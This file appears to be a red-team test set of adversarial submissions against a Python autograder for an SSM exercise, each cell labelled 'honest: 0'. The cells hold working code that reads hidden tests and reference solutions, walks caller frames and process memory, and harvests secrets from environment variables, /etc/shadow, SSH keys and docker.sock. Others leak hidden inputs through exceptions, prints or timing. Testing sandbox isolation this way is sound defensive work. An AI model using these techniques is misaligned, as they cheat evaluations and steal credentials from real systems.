# Read what a submission must not see.

# attack: reads_files
# aim: find hidden tests, references and seeds on the disk
# honest: 0
# %%
import os

marks = ("BEGIN " + "TESTS", "hidden: " + "true", "secret" + " = ", "test_case(" + "points")
found = []
for top, folders, files in os.walk("/"):
    if top.startswith(("/proc", "/sys", "/usr", "/dev")) or "/lib/python3" in top:
        folders[:] = []
        continue
    for name in files:
        if name.endswith((".py", ".toml", ".ipynb", ".json", ".csv", ".zip")):
            try:
                text = open(os.path.join(top, name), errors="replace").read(200_000)
            except OSError:
                continue
            found += [os.path.join(top, name)] if any(mark in text for mark in marks) else []
tell(*found)

# attack: imports_the_reference
# aim: import the solutions
# honest: 0
# %%
import importlib
import sys

found = [name for name in sys.modules if name.split(".")[0] == "solutions"]
for name in ("solutions", "solutions.reference.ssm", "solutions.mistakes", "tests.corpus"):
    try:
        found.append(importlib.import_module(name))
    except ImportError:
        pass
tell(*found)

# attack: imports_the_grader
# aim: take the course, its seed and its tests from the grader's modules
# honest: 0
# %%
import gc
import sys

secrets = ("autograder.grading", "autograder.course", "autograder.diagnosis", "autograder.fleet")
kinds = ("Course", "Grader", "SealedTestFile", "Mistake", "TestCase", "Notebook")
found = [name for name in secrets if hasattr(sys.modules.get(name), "load")]
for thing in gc.get_objects():
    module = getattr(type(thing), "__module__", "")
    if type(thing).__name__ in kinds and str(module).startswith(("autograder", "otter.test")):
        found.append(type(thing).__name__)
tell(*found)

# attack: searches_objects
# aim: find tests, seeds and expected values among all objects
# honest: 0
# %%
import gc

keys = {"test_files", "expected", "seed", "tell_cause", "answers"}
tell(*[sorted(keys & set(d))[0] for d in gc.get_objects()
       if type(d) is dict and keys & set(map(str, d)) and "secret" in d])

# attack: searches_its_own_memory
# aim: find the text of a hidden test in what was inherited from the process before
# honest: 0
# %%
marks = [b"BEGIN TEST " + b"CONFIG", b"def test_any_" + b"length", b"AUTOGRADER_" + b"SECRET="]
found = []
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
    for line in maps:
        area, rights = line.split()[:2]
        start, end = (int(part, 16) for part in area.split("-"))
        if "r" in rights and "w" in rights and end - start < 1 << 26:
            try:
                memory.seek(start)
                block = memory.read(end - start)
            except (OSError, ValueError, OverflowError):
                continue
            found += [mark for mark in marks if block.count(mark) > block.count(b'b"' + mark[:8])]
tell(*[mark for mark in set(found) if found.count(mark) > 8])

# attack: walks_frames
# aim: read the caller's variables
# honest: 0
# %%
import sys


def unrolled_ssm_forward(W, U, b, x):
    frame, seen = sys._getframe(), []
    while frame is not None:
        seen += [n for n in frame.f_locals if n in ("expected", "wanted", "seed", "key", "ssm", "case")]
        frame = frame.f_back
    if seen:
        raise ValueError("FOUND " + str(seen))
    return None

# attack: reads_source_by_inspect
# aim: print the source of the test that is calling
# honest: 0
# %%
import inspect
import linecache


def unrolled_ssm_forward(W, U, b, x):
    for frame in inspect.stack()[1:]:
        text = "".join(frame.code_context or linecache.getlines(frame.filename))
        if "reference" in text or "case.same" in text:
            raise ValueError("FOUND " + text)
    return None

# attack: reads_environment
# aim: read secrets from the environment, its own and its parents'
# honest: 0
# %%
import os

names = ("SECRET", "TOKEN", "PASSWORD", "GRADESCOPE", "SSH_", "AWS_", "GITHUB", "VIRTUAL_ENV")
found = [key for key in os.environ if any(name in key for name in names)]
for process in ("self", os.getppid(), 1):
    try:
        text = open(f"/proc/{process}/environ").read()
    except OSError:
        continue
    found += [name for name in names if name in text]
tell(*found)

# attack: reads_proc
# aim: look at other processes through /proc
# honest: 0
# %%
import os

found = []
for entry in os.listdir("/proc") if os.access("/proc", os.R_OK) else []:
    if entry.isdigit() and int(entry) != os.getpid():
        for name in ("environ", "maps", "mem", "fd", "cwd", "root"):
            path = f"/proc/{entry}/{name}"
            try:
                seen = open(path, "rb").read(99) if name in ("environ", "maps") else (
                    os.listdir(path) if name != "mem" else open(path, "rb"))
            except OSError:
                continue
            found += [path] if seen else []
tell(*found)

# attack: reads_command_lines
# aim: read a seed, or names of other students, from the grader's command line
# honest: 0
# %%
import os

found = []
for entry in map(str, range(1, 40_000)):
    if entry != str(os.getpid()):
        try:
            line = open(f"/proc/{entry}/cmdline").read()
        except OSError:
            continue
        found += [line] if "pytest" in line or "autograder" in line or "otter" in line else []
tell(*found)

# attack: reads_other_submissions
# aim: find what others handed in
# honest: 0
# %%
import glob

places = ("/autograder/submission*", "/autograder/source/*", "/tmp/*/*.ipynb", "/tmp/student-*/*",
          "/tmp/pytest-*/*", "/home/*/*.ipynb", "/root/*", "/work/*", "/var/tmp/*")
import os

found = []
for path in (p for place in places for p in glob.glob(place)):
    if os.path.realpath(path).startswith(os.path.realpath(".")) or not os.path.isfile(path):
        continue
    try:
        open(path, "rb").read(1)
        found.append(path)
    except OSError:
        pass
tell(*found)

# attack: reads_caches
# aim: read compiled solutions, histories and repositories
# honest: 0
# %%
import glob
import os

found = []
for home in ("/root", "/autograder", "/work", os.path.expanduser("~")):
    for pattern in ("**/__pycache__/ssm*.pyc", ".ipython/**", ".bash_history", ".ssh/*", ".git/HEAD",
                    "*/.git/HEAD", ".jupyter/**", ".netrc", ".gitconfig", "*/solutions/*.py"):
        for path in glob.iglob(f"{home}/{pattern}", recursive=pattern.startswith("**")):
            try:
                open(path, "rb").read(1)
                found += [] if "labkit" in path or "/lib/python3" in path else [path]
            except OSError:
                pass
tell(*found)

# attack: reads_descriptors
# aim: use files and sockets that were left open
# honest: 0
# %%
import os
import stat

found = []
for number in range(3, 4096):
    try:
        mode = os.fstat(number).st_mode
    except OSError:
        continue
    if stat.S_ISREG(mode) or stat.S_ISDIR(mode):
        name = os.readlink(f"/proc/self/fd/{number}")
        found += [] if name.startswith(("/usr", "/dev", "/proc")) else [name]
tell(*found)

# attack: reads_kernel_logs_and_keys
# aim: read what the kernel and the system keep
# honest: 0
# %%
found, own = [], open("/proc/self/environ", "rb").read(64)  # in a namespace, 1 is this process
for path in ("/etc/shadow", "/etc/gshadow", "/dev/kmsg", "/proc/kcore", "/proc/1/environ",
             "/sys/kernel/debug", "/run/secrets", "/var/log/syslog", "/var/run/docker.sock",
             "/etc/ssh/ssh_host_rsa_key", "/proc/kallsyms", "/root/.ssh/id_rsa"):
    try:
        text = open(path, "rb").read(64)
        if text.strip(b"0 \0\n") and text != own and path != "/proc/kallsyms":
            found.append(path)
    except OSError:
        pass
tell(*found)

# attack: carries_inputs_in_an_exception
# aim: write a hidden input into an exception's text
# honest: 0
# %%
def unrolled_ssm_forward(W, U, b, x):
    raise ValueError("FOUND " + str(x.flatten().tolist())) if x.numel() > 200 else KeyError("small")

# attack: carries_inputs_in_a_name
# aim: write a hidden input into the name of an exception's type, or of a value's
# honest: 0
# %%
def unrolled_ssm_forward(W, U, b, x):
    if x.numel() > 200:
        raise type("FOUND" + x.flatten()[0].item().hex().replace(".", ""), (Exception,), {})()
    return type("FOUND" + str(x.shape), (), {})()

# attack: carries_inputs_in_a_shape
# aim: write a hidden input into the shape of what is returned
# honest: 0
# %%
import torch


def unrolled_ssm_forward(W, U, b, x):
    return torch.zeros(0, 7_000_000 + int(x.abs().flatten()[0] * 1e6))

# attack: carries_inputs_in_prints
# aim: print hidden inputs, to every descriptor and log there is
# honest: 0
# %%
import logging
import os
import sys
import warnings


def unrolled_ssm_forward(W, U, b, x):
    text = "FOUND " + str(x.flatten()[:3].tolist())
    print(text, flush=True)
    print(text, file=sys.__stderr__, flush=True)
    warnings.warn(text)
    logging.error(text)
    for number in (0, 1, 2):
        try:
            os.write(number, text.encode())
        except OSError:
            pass
    from IPython.display import display

    display(text)
    return None

# attack: carries_inputs_to_a_public_test
# aim: keep a hidden input, in memory, in a file or in a process, until a test that quotes words
# honest: 0
# %%
import os

kept = []


def unrolled_ssm_forward(W, U, b, x):
    if x.numel() > 200:
        kept.append(x.sum().item())
        open("kept.txt", "a").write(str(kept))
        return None
    before = open("kept.txt").read() if os.path.exists("kept.txt") else ""
    raise ValueError(f"FOUND {kept} {before}" if kept or before else "nothing yet")


def make_conv_kernel(W, T):
    return unrolled_ssm_forward(W, None, None, W)

# attack: carries_inputs_in_the_clock
# aim: sleep for as long as a hidden number is large
# honest: 0
# %%
import time


def unrolled_ssm_forward(W, U, b, x):
    time.sleep(min(0.3, float(x.abs().flatten()[0]) / 10))
    return None
